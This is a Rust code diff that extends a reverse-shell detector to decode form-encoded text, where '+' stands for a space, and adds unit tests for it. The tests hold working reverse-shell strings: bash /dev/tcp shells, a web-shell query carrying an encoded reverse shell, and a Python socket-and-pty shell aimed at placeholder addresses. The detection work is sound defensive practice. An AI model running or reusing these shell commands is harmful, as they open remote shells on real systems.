@@ -107,7 +107,18 @@ pub(crate) fn scan(text: &str) -> Option<Hit> {
     if let Some(h) = shapes(text, &lower) {
         return Some(h);
     }
-    let decoded = percent_decoded(text)?;
+    if let Some(decoded) = percent_decoded(text, false) {
+        let lower = decoded.to_ascii_lowercase();
+        if let Some(h) = shapes(&decoded, &lower) {
+            return Some(h);
+        }
+    }
+    // A form-encoded query or body (application/x-www-form-urlencoded, the WHATWG URL
+    // standard): `+` is a space there (`?cmd=bash+-i+>%26+/dev/tcp/…`).
+    if !text.contains('+') {
+        return None;
+    }
+    let decoded = percent_decoded(text, true)?;
     let lower = decoded.to_ascii_lowercase();
     shapes(&decoded, &lower)
 }
@@ -122,8 +133,9 @@ fn shapes(t: &str, lower: &str) -> Option<Hit> {
         .or_else(|| socat_exec(lower))
 }
 
-/// `text` with its `%XX` escapes decoded; `None` when it has none.
-fn percent_decoded(text: &str) -> Option<String> {
+/// `text` with its `%XX` escapes decoded (and with `plus_as_space`, each `+` read as a space,
+/// as a form encoding writes it); `None` when nothing changed.
+fn percent_decoded(text: &str, plus_as_space: bool) -> Option<String> {
     fn hex(b: u8) -> Option<u8> {
         match b {
             b'0'..=b'9' => Some(b - b'0'),
@@ -146,6 +158,12 @@ fn percent_decoded(text: &str) -> Option<String> {
                 i += 3;
                 continue;
             }
+        }
+        if c == b'+' && plus_as_space {
+            out.push(b' ');
+            changed = true;
+            i += 1;
+            continue;
         }
         out.push(c);
         i += 1;
@@ -604,6 +622,15 @@ mod tests {
                 "dev_tcp_shell",
             ),
             ("404: bash -i >& /dev/tcp/192.0.2.8/8081 0>&1", "dev_tcp_shell"),
+            // Form-encoded (`+` for a space).
+            (
+                "curl 'http://h/shell.php?cmd=bash+-c+%27bash+-i+%3E%26+/dev/tcp/10.0.0.1/443+0%3E%261%27'",
+                "dev_tcp_shell",
+            ),
+            (
+                "delim=comma;bash+-c+\"bash+-i+>%26/dev/tcp/10.0.0.1/1234+0>%261\"+%23",
+                "dev_tcp_shell",
+            ),
             ("x; exec 196<>/dev/tcp/h/443; sh <&196 >&196 2>&196", "dev_tcp_shell"),
             (
                 "import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn(\"sh\")",
